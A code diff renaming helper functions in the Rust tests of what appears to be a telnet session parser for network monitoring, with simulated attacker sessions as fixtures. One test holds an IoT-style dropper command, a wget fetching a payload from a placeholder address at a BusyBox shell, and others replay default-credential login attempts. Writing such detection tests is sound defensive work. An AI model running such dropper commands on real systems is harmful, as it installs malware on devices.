@@ -307,7 +307,7 @@ enum Fate {
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::protocol::script::{C, S, any_acts, play, play_all_ways, survives};
+    use crate::protocol::played::{C, S, any_acts, survives, talk, talk_all_ways};
 
     const NEGOTIATION: (Side, &[u8]) = (S, b"\xff\xfd\x18\xff\xfd\x20");
     const ASKED: (Side, &[u8]) = (S, b"\r\nDebian GNU/Linux 12\r\n\r\nhost login: ");
@@ -318,7 +318,7 @@ mod tests {
 
     #[test]
     fn refusals_and_the_success_after_them_are_told_and_commands_follow() {
-        let heard = play_all_ways(&[
+        let heard = talk_all_ways(&[
             NEGOTIATION,
             (C, b"\xff\xfb\x18\xff\xfc\x20"),
             ASKED,
@@ -344,7 +344,7 @@ mod tests {
 
     #[test]
     fn prompts_alone_tell_where_a_device_has_no_words() {
-        let heard = play_all_ways(&[
+        let heard = talk_all_ways(&[
             (S, b"Username: "),
             (C, b"admin\r\n"),
             (S, b"Password: "),
@@ -359,13 +359,13 @@ mod tests {
         assert_eq!(heard.logins, [login("admin", false), login("admin", true)]);
         assert_eq!(heard.texts.last().unwrap(), "shell=show version");
         // A prompt at the end of the conversation tells too.
-        let heard = play_all_ways(&[(S, b"Password: "), (C, b"a\r\n"), (S, b"\r\nPassword: ")]);
+        let heard = talk_all_ways(&[(S, b"Password: "), (C, b"a\r\n"), (S, b"\r\nPassword: ")]);
         assert_eq!(heard.logins, [login("", false)]);
     }
 
     #[test]
     fn what_is_typed_ahead_is_never_told_as_text() {
-        let heard = play_all_ways(&[
+        let heard = talk_all_ways(&[
             ASKED,
             (C, b"root\r\nhunter1\r\nenable\r\n"),
             (S, b"root\r\nPassword: \r\nLogin incorrect\r\n"),
@@ -389,12 +389,12 @@ mod tests {
             (S, b"\r\nLogin incorrect\r\n"),
         ];
         dialogue.extend(rest);
-        assert_eq!(play_all_ways(&dialogue).logins, [login("root", false)]);
+        assert_eq!(talk_all_ways(&dialogue).logins, [login("root", false)]);
     }
 
     #[test]
     fn a_dropper_typed_in_a_shell_is_one_oddity() {
-        let heard = play_all_ways(&[
+        let heard = talk_all_ways(&[
             NEGOTIATION,
             (S, b"BusyBox v1.2\r\n# "),
             (C, b"wget http://192.0.2.9/a -O a\r\n"),
@@ -410,7 +410,7 @@ mod tests {
     #[test]
     fn other_greetings_are_not_taken_for_a_prompt() {
         for server in [&b"SSH-2.0-OpenSSH_9.2\r\n"[..], b"Last login: ", b"\x05\x00\x00\x00\x0a8.0"] {
-            assert_ne!(play(&[(S, server)], 23, 99).app, Some("telnet"));
+            assert_ne!(talk(&[(S, server)], 23, 99).app, Some("telnet"));
         }
     }
 
